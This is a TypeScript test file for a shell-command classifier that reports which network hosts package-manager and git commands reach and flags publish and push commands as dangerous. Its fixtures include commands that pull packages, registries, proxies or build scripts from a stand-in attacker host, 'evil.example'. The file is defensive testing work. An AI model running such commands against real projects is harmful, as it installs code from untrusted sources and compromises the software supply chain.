import { describe, expect, test } from 'vitest';
import { classifyLine } from '../classify-line.ts';

function networkOf(line: string): readonly string[] {
  return classifyLine(line, { cwd: '/repo' }).effects.flatMap((effect) =>
    effect.kind === 'network' ? [effect.host ?? effect.source ?? 'any'] : [],
  );
}

describe("a package manager without a source of its own gets packages from the project's sources", () => {
  test.each([
    ['npm ci', ['npm']],
    ['cd web && npm install zod', ['npm']],
    ['timeout 60 pnpm install --frozen-lockfile', ['npm']],
    ['yarn', ['npm']],
    ['pip3.12 install -r requirements.txt', ['python']],
    ['.venv/bin/pip install requests', ['python']],
    ['python -m pip install requests', ['python']],
    ['uv pip install requests', ['python']],
    ['go mod tidy', ['go']],
    ['cargo add serde --features derive', ['cargo']],
    ['mix do deps.get, compile', ['hex']],
    ['bundle install', ['rubygems']],
    ['composer require monolog/monolog', ['composer']],
    ['dotnet restore', ['nuget']],
    ['git fetch origin main', ['git']],
    ['git submodule update --init', ['git']],
    ['npm ci && git fetch', ['npm', 'git']],
  ])('%s', (line, expected) => {
    expect(networkOf(line)).toEqual(expected);
  });
});

describe('a word that names another source, or is unknown, leaves the hosts open', () => {
  test.each([
    'npm ci --registry https://evil.example',
    'npm --registry https://evil.example ci',
    'npm install acme/evil',
    'npm install https://evil.example/x.tgz',
    'npm install $PACKAGE',
    'npm install --zz-unknown',
    'npm_config_registry=https://evil.example npm ci',
    'export FOO=1; npm ci',
    'yarn add x@https://evil.example/x.tgz',
    'pip install -i https://evil.example requests',
    'pip install git+https://evil.example/x',
    'uv pip install --index-url https://evil.example requests',
    'GOPROXY=direct go get example.com/x',
    'cargo add --git https://evil.example/x x',
    'gem install x --source https://evil.example',
    'dotnet restore -s https://evil.example',
    'mvn -Dhttps.proxyHost=evil.example test',
    'gradle build -I evil.gradle',
    'git fetch evil.example:x.git',
    'git -C ../other fetch',
    'git -c http.proxy=evil.example fetch',
  ])('%s', (line) => {
    expect(networkOf(line)).toContain('any');
  });
});

test('a host in an address for git is reported', () => {
  expect(networkOf('git fetch https://evil.example/x.git')).toContain('evil.example');
  expect(networkOf('git fetch git@evil.example:x.git')).toContain('evil.example');
});

test('sending and publishing stay as dangerous as before, whatever was agreed to', () => {
  for (const line of [
    'npm publish',
    'git push',
    'cargo publish',
    'twine upload dist/*',
    'git lfs push origin main',
  ])
    expect(classifyLine(line, { cwd: '/repo' }).level).toBe('dangerous');
});
